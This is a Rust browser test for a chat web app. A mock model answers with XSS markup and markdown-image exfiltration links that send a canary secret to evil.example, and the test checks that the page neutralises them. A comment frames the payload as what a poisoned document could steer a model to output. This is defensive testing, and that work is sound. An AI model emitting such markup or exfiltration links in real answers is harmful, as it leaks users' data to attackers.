//! The chat page in a real browser: headless Chromium (Debian's) driven by
//! `tests/browser/chat.mjs` (playwright-core) against a palisade on a known loopback
//! port whose mock model answers with an XSS payload. The script's checks: sign-in by
//! keyboard, a streamed answer with citations rendered as text, the CSP in force, the
//! session kept across a reload by the HttpOnly cookie alone, empty web storage, no
//! token in any URL, a non-extractable DPoP key, the copied token refused outside the
//! browser (no proof, another key, expired, replayed, another URL or method), the HR
//! document visible to HR only, two tabs refreshing at once, a phone-sized viewport,
//! and "sign out everywhere" reaching the other browser. Screenshots go to
//! `target/browser-artifacts/`.

use serde_json::json;

use crate::mock::Reply;
use crate::support::*;

#[tokio::test]
async fn the_chat_page_in_a_real_browser() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    assert!(
        dir.join("tests/browser/node_modules/playwright-core")
            .exists(),
        "playwright-core is not installed: run `npm ci --prefix tests/browser` (scripts/test.sh does)"
    );
    let chromium =
        std::env::var("PALISADE_TEST_CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".into());
    assert!(
        std::path::Path::new(&chromium).exists(),
        "{chromium} is missing: install Debian's chromium (scripts/test.sh does)"
    );
    let port = free_port();
    let origin = format!("http://localhost:{port}");
    let listen = format!("127.0.0.1:{port}");
    let (s, mock) = start_process_with_mock(&[
        ("PALISADE_TEST_LISTEN", listen.as_str()),
        ("PALISADE_PUBLIC_ORIGIN", origin.as_str()),
        // Short-lived access tokens: the page renews them on its own while the test runs.
        ("PALISADE_TOKENS__ACCESS_TTL", "20s"),
    ])
    .await;
    let acme = seed_acme(&s);
    let admin = s.login("adam", &acme.adam).await;
    for (title, text, acl) in [
        (
            "Vacation policy",
            "Employees get 30 days of vacation and 10 sick days per year.",
            json!({"public": true}),
        ),
        (
            "Salary bands",
            "Confidential salary bands for every grade.",
            json!({"roles": ["hr"]}),
        ),
    ] {
        let r = s
            .post_document(
                &admin.access,
                &json!({"title": title, "text": text, "acl": acl}),
            )
            .await;
        assert_eq!(r.status(), reqwest::StatusCode::CREATED);
    }
    // The answer a poisoned document could steer a model to: markup, an image whose URL
    // carries a secret (markdown-image exfiltration), links, and what Markdown is for.
    mock.always(Reply::Text(
        concat!(
            "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script> Vacation is 30 days.\n\n",
            "![chart](https://evil.example/leak?q=SECRET-CANARY-77)\n\n",
            "<img src=\"https://evil.example/raw.png?q=SECRET-CANARY-77\">\n\n",
            "See [the policy](https://evil.example/policy) or <https://evil.example/auto>.\n\n",
            "## Summary\n\n- **30** days of *vacation*\n- 10 sick days\n\n",
            "```python\ndays = 30 + 10\nprint(days)\n```\n\n",
            "| kind | days |\n|---|---|\n| vacation | 30 |\n"
        )
        .into(),
    ));

    // A second deployment with dpop = "required" and server nonces.
    let strict_port = free_port();
    let strict_origin = format!("http://localhost:{strict_port}");
    let strict_listen = format!("127.0.0.1:{strict_port}");
    let strict = Server::start_with(&[
        ("PALISADE_TEST_LISTEN", strict_listen.as_str()),
        ("PALISADE_PUBLIC_ORIGIN", strict_origin.as_str()),
        ("PALISADE_TOKENS__DPOP", "required"),
        ("PALISADE_TOKENS__DPOP_NONCE", "true"),
    ]);
    let strict_acme = seed_acme(&strict);

    // A third, with no public_origin: reachable at localhost and 127.0.0.1 alike, on a
    // port that is not 8080.
    let open_port = free_port();
    let open_listen = format!("127.0.0.1:{open_port}");
    let open = Server::start_with(&[
        ("PALISADE_TEST_LISTEN", open_listen.as_str()),
        ("PALISADE_PUBLIC_ORIGIN", ""),
    ]);
    let open_acme = seed_acme(&open);

    let artifacts = dir.join("target/browser-artifacts");
    let out = tokio::process::Command::new("node")
        .arg(dir.join("tests/browser/chat.mjs"))
        .env("BASE", &origin)
        .env("ALICE_PASSWORD", &acme.alice)
        .env("HANNAH_PASSWORD", &acme.hannah)
        .env("ARTIFACTS", &artifacts)
        .env("CHROMIUM", &chromium)
        .env("STRICT_BASE", &strict_origin)
        .env("STRICT_ALICE_PASSWORD", &strict_acme.alice)
        .env("ADAM_PASSWORD", &acme.adam)
        .env("MOCK_BASE", mock.base_url.trim_end_matches("/v1"))
        .env("OPEN_PORT", open_port.to_string())
        .env("OPEN_ALICE_PASSWORD", &open_acme.alice)
        .output()
        .await
        .expect("node is on the machine");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success() && stdout.contains("ALL BROWSER CHECKS PASSED"),
        "browser checks failed:\n{stdout}\n{stderr}\n--- server log ---\n{}",
        s.log()
    );
    for shot in [
        "signin.png",
        "chat.png",
        "chat-dark.png",
        "documents.png",
        "upload.png",
        "sessions.png",
        "phone-signin.png",
        "phone.png",
        "phone-dark.png",
        "phone-threads.png",
        "phone-documents.png",
        "phone-documents-dark.png",
        "phone-sessions.png",
        "consent.png",
        "consent-phone.png",
    ] {
        assert!(artifacts.join(shot).exists(), "{shot} was not written");
    }
    // The questions reached the model.
    let seen = mock.requests();
    assert!(seen.iter().any(|r| r.to_string().contains("vacation days")));
}
